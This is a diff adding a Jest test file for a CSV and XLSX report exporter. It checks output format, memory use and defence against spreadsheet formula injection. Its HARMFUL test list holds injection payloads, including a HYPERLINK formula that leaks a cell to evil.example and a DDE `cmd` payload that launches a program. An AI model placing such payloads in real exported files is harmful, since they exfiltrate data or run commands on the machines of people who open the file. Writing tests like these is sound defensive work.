@@ -1,0 +1,260 @@
+import { describe, expect, it } from '@jest/globals';
+import { setFlagsFromString } from 'node:v8';
+import { runInNewContext } from 'node:vm';
+import { cellsOf, readCsv, unzip } from '../../test/spreadsheets.js';
+import { csvOf } from './csv.js';
+import { count, day, instant, linesOf, money, summed, type Table, text } from './report.js';
+import { xlsxOf } from './xlsx/xlsx.js';
+
+interface Row {
+  name: string | null;
+  pieces: number;
+  price: number | null;
+  on: string;
+  at: Date | null;
+}
+
+const row: Row = {
+  name: 'Oil filter',
+  pieces: 3,
+  price: 250_050,
+  on: '2026-02-01',
+  at: new Date('2026-01-31T21:05:09Z'),
+};
+
+const COLUMNS = [
+  text<Row>('Name', 30, ({ name }) => name),
+  summed(count<Row>('Pieces', ({ pieces }) => pieces)),
+  summed(money<Row>('Price', ({ price }) => price)),
+  day<Row>('Day', ({ on }) => on),
+  instant<Row>('Date', ({ at }) => at),
+];
+
+async function* given<Given>(rows: Given[]): AsyncGenerator<Given> {
+  yield* rows;
+}
+
+const tableOf = (rows: Row[]): Table => ({
+  title: 'Parts & more',
+  widths: [30, 16, 18, 12, 20],
+  lines: linesOf(COLUMNS, given(rows)),
+});
+
+async function csv(rows: Row[]): Promise<string> {
+  let all = '';
+  for await (const block of csvOf(tableOf(rows))) all += block;
+  return all;
+}
+
+async function xlsx(rows: Row[], mostLines?: number): Promise<Map<string, string>> {
+  const blocks: Buffer[] = [];
+  for await (const block of xlsxOf(tableOf(rows), mostLines)) blocks.push(block);
+  return unzip(Buffer.concat(blocks));
+}
+
+const sheet = async (rows: Row[]) => cellsOf((await xlsx(rows)).get('xl/worksheets/sheet1.xml') ?? '');
+
+const HARMFUL = [
+  '=1+1',
+  '+254700000000',
+  '-3',
+  '@x',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\0=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠x',
+  '\tharmless',
+  '=HYPERLINK("https://evil.example?"&A1,"Click")',
+  `=cmd|' /C calc'!A0`,
+];
+
+const HARMLESS = [
+  'Oil filter, 5W-30',
+  'a "quoted" word',
+  'two\nlines',
+  'two\r\nlines',
+  'semi;colon',
+  '🔧 Genuine',
+  'فرامل أمامية',
+  "O'Neill",
+  '1=1',
+  '<b>&amp;</b>',
+  ']]>',
+  '_x000D_',
+  '_x',
+  '  blanks  ',
+  '',
+];
+
+const MANY = 200_000;
+
+/** What stays in use after the first tenth of many rows, and after the last of them. */
+async function bytesKept(write: (table: Table) => AsyncIterable<string | Buffer>): Promise<number> {
+  const kept: number[] = [];
+  async function* rows(): AsyncGenerator<Row> {
+    for (let made = 0; made < MANY; made += 1) {
+      if (made % (MANY / 10) === 0) kept.push(bytesInUse());
+      yield await Promise.resolve({ ...row, name: `Oil filter ${made}` });
+    }
+  }
+  let written = 0;
+  for await (const block of write({ ...tableOf([]), lines: linesOf(COLUMNS, rows()) }))
+    written += block.length;
+  expect(written).toBeGreaterThan(1_000_000);
+  return (kept.at(-1) ?? Infinity) - (kept[1] ?? 0);
+}
+
+function bytesInUse(): number {
+  setFlagsFromString('--expose-gc');
+  (runInNewContext('gc') as () => void)();
+  const { heapUsed, arrayBuffers } = process.memoryUsage();
+  return heapUsed + arrayBuffers;
+}
+
+it.each([
+  ['CSV', csvOf],
+  ['XLSX', (table: Table) => xlsxOf(table)],
+])('writes 200,000 rows as %s and keeps none of them', async (_format, write) => {
+  expect(await bytesKept(write)).toBeLessThan(1_000_000);
+});
+
+describe('a report as CSV', () => {
+  it('is UTF-8 with a mark, lines end with CR LF, texts are quoted, numbers and dates are bare', async () => {
+    expect(await csv([row])).toBe(
+      '\uFEFF"Name","Pieces","Price","Day","Date"\r\n' +
+        '"Oil filter",3,2500.50,2026-02-01,2026-02-01 00:05:09\r\n' +
+        '"Total",3,2500.50,,\r\n',
+    );
+  });
+
+  it('leaves empty what is not there, and has a head and a total without rows', async () => {
+    expect(readCsv(await csv([{ ...row, name: null, price: null, at: null }]))[1]).toEqual([
+      '',
+      '3',
+      '',
+      '2026-02-01',
+      '',
+    ]);
+    expect(readCsv(await csv([]))).toEqual([
+      ['Name', 'Pieces', 'Price', 'Day', 'Date'],
+      ['Total', '0', '0.00', '', ''],
+    ]);
+  });
+
+  it.each(HARMFUL)('takes %j for no formula', async (name) => {
+    expect(readCsv(await csv([{ ...row, name }]))[1]).toEqual([
+      `'${name}`,
+      '3',
+      '2500.50',
+      '2026-02-01',
+      expect.any(String),
+    ]);
+  });
+
+  it.each(HARMLESS)('gives back %j as it is', async (name) => {
+    expect(readCsv(await csv([{ ...row, name }]))[1]?.[0]).toBe(name);
+  });
+
+  it('leaves numbers below zero alone', async () => {
+    expect(readCsv(await csv([{ ...row, pieces: -3, price: -150 }]))[1]?.slice(1, 3)).toEqual([
+      '-3',
+      '-1.50',
+    ]);
+  });
+});
+
+describe('a report as a workbook', () => {
+  it('has texts as text, numbers as numbers and dates as dates', async () => {
+    const [head, cells, total] = await sheet([row]);
+    expect(head?.map(({ type, value }) => `${type} ${value}`)).toEqual([
+      'text Name',
+      'text Pieces',
+      'text Price',
+      'text Day',
+      'text Date',
+    ]);
+    expect(cells).toEqual([
+      { type: 'text', value: 'Oil filter', style: 1 },
+      { type: 'number', value: '3', style: 2 },
+      { type: 'number', value: '2500.50', style: 3 },
+      { type: 'number', value: '46054', style: 4 },
+      { type: 'number', value: expect.stringMatching(/^46054\.00357/), style: 5 },
+    ]);
+    expect(total?.map(({ value, style }) => [value, style])).toEqual([
+      ['Total', 6],
+      ['3', 7],
+      ['2500.50', 8],
+      ['', 9],
+      ['', 10],
+    ]);
+  });
+
+  it.each([...HARMFUL, ...HARMLESS])('holds %j as a text, as it is', async (name) => {
+    const cells = await sheet([{ ...row, name }]);
+    expect(cells[1]?.[0]).toEqual({ type: 'text', value: name.replace(/\r\n?/g, '\n'), style: 1 });
+  });
+
+  it('consists of the parts that a spreadsheet asks for, each well-formed, and of no formula', async () => {
+    const parts = await xlsx(HARMFUL.map((name) => ({ ...row, name })));
+    expect([...parts.keys()]).toEqual([
+      'xl/worksheets/sheet1.xml',
+      'xl/styles.xml',
+      'xl/workbook.xml',
+      'xl/_rels/workbook.xml.rels',
+      '_rels/.rels',
+      '[Content_Types].xml',
+    ]);
+    expect(parts.get('xl/workbook.xml')).toContain(
+      '<sheet name="Parts &amp; more" sheetId="1" r:id="rId1"/>',
+    );
+    for (const [name, xml] of parts) expect([name, unclosedIn(xml)]).toEqual([name, []]);
+    expect(parts.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
+  });
+
+  it('goes on with another sheet, under the same head, when one is full', async () => {
+    const rows = Array.from({ length: 5 }, (_, place) => ({ ...row, pieces: place + 1 }));
+    const parts = await xlsx(rows, 3);
+    const sheets = [1, 2, 3].map((number) => cellsOf(parts.get(`xl/worksheets/sheet${number}.xml`) ?? ''));
+    expect(sheets.map((cells) => cells.map(([, second]) => second?.value))).toEqual([
+      ['Pieces', '1', '2'],
+      ['Pieces', '3', '4'],
+      ['Pieces', '5', '15'],
+    ]);
+    expect(parts.get('xl/workbook.xml')).toContain('name="Parts &amp; more 3" sheetId="3" r:id="rId3"');
+    expect(parts.get('[Content_Types].xml')).toContain('/xl/worksheets/sheet3.xml');
+    expect(parts.get('xl/_rels/workbook.xml.rels')).toContain('Id="rId4"');
+  });
+
+  it('stops the rows when nobody reads any more', async () => {
+    let isStopped = false;
+    async function* endless(): AsyncGenerator<Row> {
+      try {
+        for (;;) yield await Promise.resolve(row);
+      } finally {
+        isStopped = true;
+      }
+    }
+    const content = xlsxOf({ ...tableOf([]), lines: linesOf(COLUMNS, endless()) });
+    await content.next();
+    await content.next();
+    await content.return(undefined);
+    expect(isStopped).toBe(true);
+  });
+});
+
+/** The elements of a text that are opened or closed at the wrong place. */
+function unclosedIn(xml: string): string[] {
+  const open: string[] = [];
+  for (const [, end, name = '', alone] of xml.matchAll(/<(\/?)([\w:]+)(?:\s[^<>]*?)?(\/?)>/g)) {
+    if (end && open.pop() !== name) return [`</${name}>`];
+    if (!end && !alone) open.push(name);
+  }
+  return open;
+}
